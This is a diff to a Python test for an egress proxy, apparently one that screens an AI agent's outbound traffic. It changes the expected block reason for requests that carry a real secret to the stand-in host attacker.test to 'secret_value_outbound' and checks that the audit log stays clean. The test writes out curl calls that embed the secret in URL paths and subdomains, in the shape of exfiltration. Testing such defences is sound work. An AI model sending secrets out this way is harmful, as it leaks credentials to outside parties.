@@ -118,8 +118,9 @@ def test_a_real_value_the_agent_puts_in_a_path_or_host_never_reaches_the_audit_l
     real = OPENAI.real
     assert curl(proxy.url, proxy.ca, f"https://echo.example.com/leak/{real}/x").reason == "secret_value_outbound"
     assert curl(proxy.url, proxy.ca, f"https://echo.example.com/q/{real.lower()}").reason == "secret_value_outbound"
-    assert curl(proxy.url, proxy.ca, f"https://attacker.test/leak/{real}").reason == "host_not_allowed"
-    assert curl(proxy.url, proxy.ca, f"https://{real.lower()}.attacker.test/").reason == "host_not_allowed"
+    # Toward a host outside the allowlist too, the value leaving is the worse of the two reasons.
+    assert curl(proxy.url, proxy.ca, f"https://attacker.test/leak/{real}").reason == "secret_value_outbound"
+    assert curl(proxy.url, proxy.ca, f"https://{real.lower()}.attacker.test/").reason == "secret_value_outbound"
     records = proxy.audit()
     assert len(records) == 4
     assert_valid(records)
